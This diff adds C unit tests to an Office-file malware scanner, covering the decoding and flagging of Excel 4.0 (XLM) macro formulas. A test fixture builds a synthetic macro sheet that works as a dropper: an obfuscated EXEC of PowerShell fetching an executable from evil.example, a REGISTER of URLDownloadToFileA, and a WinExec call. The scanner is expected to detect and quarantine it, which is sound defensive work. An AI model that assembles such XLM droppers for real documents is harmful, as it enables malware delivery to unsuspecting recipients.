@@ -542,6 +542,214 @@ START_TEST(sylk_macro_sheet)
 }
 END_TEST
 
+/* A FORMULA record ([MS-XLS] 2.4.127) at row, col holding rgce. */
+static void
+biff_formula(GByteArray *b, uint16_t row, uint16_t col, const uint8_t *rgce,
+    uint16_t cce)
+{
+	uint8_t fixed[16] = { 0 };
+
+	put16(b, 0x0006);
+	put16(b, (uint16_t)(22 + cce));
+	put16(b, row);
+	put16(b, col);
+	g_byte_array_append(b, fixed, 16);	/* ixfe, num, grbit, chn */
+	put16(b, cce);
+	g_byte_array_append(b, rgce, cce);
+}
+
+static void
+ptg_str(GByteArray *b, const char *s)
+{
+	uint8_t h[3] = { 0x17, (uint8_t)strlen(s), 0 };
+
+	g_byte_array_append(b, h, 3);
+	g_byte_array_append(b, (const uint8_t *)s, (guint)strlen(s));
+}
+
+static void
+ptg_raw(GByteArray *b, const char *hex)
+{
+	for (; hex[0] && hex[1]; hex += 2) {
+		uint8_t v = (uint8_t)(g_ascii_xdigit_value(hex[0]) << 4 |
+		    g_ascii_xdigit_value(hex[1]));
+
+		g_byte_array_append(b, &v, 1);
+	}
+}
+
+/* Globals (biff_book) and a macro sheet with a dropper's formulas. */
+static GByteArray *
+xlm_book(void)
+{
+	GByteArray *b = biff_book(false), *f = g_byte_array_new();
+	uint8_t bof[16] = { 0x00, 0x06, 0x40, 0x00 };
+
+	put16(b, 0x0809);
+	put16(b, sizeof(bof));
+	g_byte_array_append(b, bof, sizeof(bof));
+	/* EXEC("cmd /c po" & "wer" & CHAR(115) & "hell iwr http://...") */
+	ptg_str(f, "cmd /c po");
+	ptg_str(f, "wer");
+	ptg_raw(f, "08" "1E7300" "416F00" "08");
+	ptg_str(f, "hell iwr http://evil.example/a.exe");
+	ptg_raw(f, "08" "42016E00");
+	biff_formula(b, 0, 0, f->data, (uint16_t)f->len);
+	g_byte_array_set_size(f, 0);
+	/* REGISTER("urlmon", "URLDownloadToFileA", "JJCCJJ", "dl") */
+	ptg_str(f, "urlmon");
+	ptg_str(f, "URLDownloadToFileA");
+	ptg_str(f, "JJCCJJ");
+	ptg_str(f, "dl");
+	ptg_raw(f, "42049500");
+	biff_formula(b, 1, 0, f->data, (uint16_t)f->len);
+	g_byte_array_set_size(f, 0);
+	/* FORMULA.FILL("x", A5): a command equivalent (Cetab 97). */
+	ptg_str(f, "x");
+	ptg_raw(f, "440400" "00C0" "42026180");
+	biff_formula(b, 2, 0, f->data, (uint16_t)f->len);
+	g_byte_array_set_size(f, 0);
+	ptg_raw(f, "42003600");		/* HALT() */
+	biff_formula(b, 3, 0, f->data, (uint16_t)f->len);
+	put16(b, 0x000A);
+	put16(b, 0);
+	g_byte_array_free(f, TRUE);
+	return b;
+}
+
+START_TEST(biff_formulas_decode)
+{
+	GByteArray *b = xlm_book();
+	struct emf_biff_info bi;
+	const char *const lines[] = {
+		"A1: =EXEC(\"cmd /c powershell iwr http://evil.example/a.exe\")",
+		"A2: =REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\","
+		    "\"dl\")",
+		"A3: =FORMULA.FILL(\"x\",A5)", "A4: =HALT()", NULL };
+	GPtrArray *susp = NULL;
+
+	ck_assert(emf_biff_walk(b->data, b->len, &bi));
+	ck_assert_uint_eq(bi.nformulas, 4);
+	for (size_t i = 0; lines[i] != NULL; i++)
+		ck_assert_msg(strstr(bi.formulas->str, lines[i]) != NULL,
+		    "want %s; got:\n%s", lines[i], bi.formulas->str);
+	emf_xlm_analyse(bi.formulas->str, bi.formulas->len, &susp);
+	ck_assert_ptr_nonnull(susp);
+	ck_assert_uint_eq(susp->len, 3);	/* EXEC, REGISTER, FORMULA.FILL */
+	g_ptr_array_free(susp, TRUE);
+	emf_biff_info_clear(&bi);
+	/* Every truncation of the stream: no overrun, no leak. */
+	for (size_t n = 0; n < b->len; n++)
+		if (emf_biff_walk(b->data, n, &bi))
+			emf_biff_info_clear(&bi);
+	g_byte_array_free(b, TRUE);
+}
+END_TEST
+
+START_TEST(xlm_formula_tokens)
+{
+	GByteArray *f = g_byte_array_new();
+	GString *out = g_string_new(NULL);
+	GPtrArray *names = g_ptr_array_new();
+	GPtrArray *susp = NULL;
+	GString *many = g_string_new(NULL);
+
+	/* A unknown PtgFunc arity stops, keeping what was decoded. */
+	ptg_str(f, "a");
+	ptg_raw(f, "41FF01");
+	ck_assert(!emf_xlm_formula(f->data, f->len, 8, NULL, out));
+	ck_assert_str_eq(out->str, "\"a\"");
+	/* A PtgStr longer than the formula: refused, nothing read past. */
+	g_byte_array_set_size(f, 0);
+	g_string_truncate(out, 0);
+	ptg_raw(f, "17C800414243");
+	ck_assert(!emf_xlm_formula(f->data, f->len, 8, NULL, out));
+	/* A user-defined call through a name (Ftab 255), IF, SET.VALUE. */
+	g_ptr_array_add(names, (char *)"Kernel32_WinExec");
+	g_byte_array_set_size(f, 0);
+	g_string_truncate(out, 0);
+	ptg_raw(f, "2301000000");
+	ptg_str(f, "calc");
+	ptg_raw(f, "1E0100" "4203FF00");
+	ck_assert(emf_xlm_formula(f->data, f->len, 8, names, out));
+	ck_assert_str_eq(out->str, "Kernel32_WinExec(\"calc\",1)");
+	/* Stack overflow of operands: bounded, returns false. */
+	g_byte_array_set_size(f, 0);
+	g_string_truncate(out, 0);
+	for (int i = 0; i < 100; i++)
+		ptg_raw(f, "1E0100");
+	ck_assert(!emf_xlm_formula(f->data, f->len, 8, NULL, out));
+	/* CHAR() of a computed value stays a call; heavy use is reported. */
+	for (int i = 0; i < 12; i++)
+		g_string_append(many, "CHAR(A1+1)&");
+	emf_xlm_analyse(many->str, many->len, &susp);
+	ck_assert_msg(susp != NULL && strcmp(g_ptr_array_index(susp, 0),
+	    "XLM CHAR() obfuscation") == 0, "CHAR() obfuscation missing");
+	g_ptr_array_free(susp, TRUE);
+	susp = NULL;
+	/* Names inside string literals are not calls. */
+	emf_xlm_analyse("=ALERT(\"EXEC(x)\")", 17, &susp);
+	ck_assert_ptr_null(susp);
+	g_string_free(many, TRUE);
+	g_ptr_array_free(names, TRUE);
+	g_string_free(out, TRUE);
+	g_byte_array_free(f, TRUE);
+}
+END_TEST
+
+START_TEST(xlm_dropper_end_to_end)
+{
+	GByteArray *book = xlm_book();
+	GByteArray *empty = g_byte_array_new();
+	struct cfb_ent e[1] = { { "Workbook", -1, false, book } };
+	GByteArray *cfb = cfb_build(e, 1);
+	char *json = scan_json(cfb->data, cfb->len, "invoice.xls");
+	const char *const want[] = { "\"XLM_MACRO\"", "\"MACRO_AUTOEXEC\"",
+		"\"MACRO_SUSPICIOUS\"", "\"MACRO_URL\"", "XLM EXEC()",
+		"XLM REGISTER()", "URLDownloadToFileA", "powershell",
+		"http://evil.example/a.exe", "\"action\":\"quarantine\"",
+		NULL };
+
+	want_in(json, want, true);
+	g_free(json);
+	g_byte_array_free(cfb, TRUE);
+	g_byte_array_free(book, TRUE);
+	g_byte_array_free(empty, TRUE);
+}
+END_TEST
+
+/* The real Excel 4.0 samples: formulas decoded, ALERT and HALT. */
+START_TEST(corpus_excel4_formulas)
+{
+	const char *files[] = {
+		"oletools-testdata/excel4-macros/excel4_sample_macro.xls",
+		"oletools-testdata/excel4-macros/"
+		    "excel4_sample_macro_excel5_format.xls", NULL };
+
+	for (size_t i = 0; files[i] != NULL; i++) {
+		char *path = tu_corpus(files[i]);
+		gchar *d = NULL;
+		gsize len;
+		char *json;
+		const char *const want[] = { "\"XLM formulas\"",
+			"\"XLM_MACRO\"", "\"MACRO_AUTOEXEC\"", NULL };
+		const char *const not[] = { "\"MACRO_SUSPICIOUS\"", NULL };
+
+		if (path == NULL || !g_file_get_contents(path, &d, &len,
+		    NULL)) {
+			g_free(path);
+			continue;	/* corpus absent: skipped */
+		}
+		json = scan_json((const uint8_t *)d, len, "x.xls");
+		want_in(json, want, true);
+		want_in(json, not, false);
+		g_free(json);
+		g_free(d);
+		g_free(path);
+	}
+}
+END_TEST
+
 static Suite *
 office_suite(void)
 {
@@ -555,6 +763,10 @@ office_suite(void)
 	tcase_add_test(tc, xml_text_decodes_entities);
 	tcase_add_test(tc, biff_walk_sheets_names_filepass);
 	tcase_add_test(tc, sylk_macro_sheet);
+	tcase_add_test(tc, biff_formulas_decode);
+	tcase_add_test(tc, xlm_formula_tokens);
+	tcase_add_test(tc, xlm_dropper_end_to_end);
+	tcase_add_test(tc, corpus_excel4_formulas);
 	suite_add_tcase(s, tc);
 	return s;
 }
